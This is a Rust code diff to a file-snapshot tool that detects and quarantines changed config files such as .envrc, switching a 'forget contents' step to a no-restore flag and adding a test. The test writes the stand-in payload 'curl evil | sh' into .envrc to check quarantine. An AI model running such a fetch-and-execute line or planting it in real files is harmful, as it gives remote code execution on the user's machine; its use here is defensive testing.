@@ -269,6 +269,8 @@ pub struct Snapshot {
     /// The writable roots the snapshot is of: where the target of a link in a watched
     /// directory is watched too ([`Snapshot::list`]).
     roots: Vec<PathBuf>,
+    /// Nothing is put back from this snapshot's contents ([`Snapshot::forget_contents`]).
+    no_restore: bool,
 }
 
 /// A directory's entries that the walk looks at ([`kept`]: its subdirectories and the names it
@@ -1311,9 +1313,9 @@ impl Snapshot {
     /// meet these was going: what it read may be that run's plant, which its own scan moves
     /// aside and this one's would then have written back over the operator's restored file.
     pub fn forget_contents(&mut self) {
-        for seen in self.seen.values_mut() {
-            seen.content = None;
-        }
+        // A flag, not the contents themselves: a snapshot is compared with the next one by
+        // what it holds, so emptied contents would make every watched file look changed.
+        self.no_restore = true;
     }
 
     /// The earlier contents this snapshot read ([`Kept`]), to be kept where no run reaches
@@ -1450,6 +1452,7 @@ impl Snapshot {
                 continue;
             }
             let earlier = match f.change {
+                Change::Changed if before.no_restore => None,
                 Change::Changed => before.seen.get(&f.path).and_then(Seen::earlier),
                 Change::Appeared => None,
             };
@@ -3291,6 +3294,32 @@ mod tests {
             std::fs::read_to_string(root.join(".envrc")).unwrap(),
             "the operator's\n"
         );
+    }
+
+    /// A snapshot whose contents are forgotten (another run was going when it was taken)
+    /// still compares as it was: nothing unchanged is a finding (emptied contents had made
+    /// every watched file look changed, and the placeholder of a live run was moved aside),
+    /// and a changed file is moved aside without anything put back.
+    #[test]
+    fn a_snapshot_with_its_contents_forgotten_compares_and_puts_nothing_back() {
+        let d = tempfile::tempdir().unwrap();
+        let root = d.path().canonicalize().unwrap();
+        let roots = std::slice::from_ref(&root);
+        std::fs::write(root.join(".envrc"), "use flake\n").unwrap();
+        std::fs::create_dir(root.join(".git")).unwrap();
+        std::fs::write(root.join(".git/config"), "[core]\n").unwrap();
+        let mut before = Snapshot::take(roots);
+        before.forget_contents();
+        let none = Snapshot::take(roots).findings_since(&before);
+        assert!(none.is_empty(), "{none:#?}");
+        std::fs::write(root.join(".envrc"), "curl evil | sh\n").unwrap();
+        let found = Snapshot::take(roots).findings_since(&before);
+        assert_eq!(found.len(), 1, "{found:#?}");
+        assert!(
+            matches!(found[0].handling, Handling::Quarantined(_)),
+            "{found:#?}"
+        );
+        assert!(!root.join(".envrc").exists());
     }
 
     /// A file that holds what the dead run kept of it (content, mode and owner) is as it was,
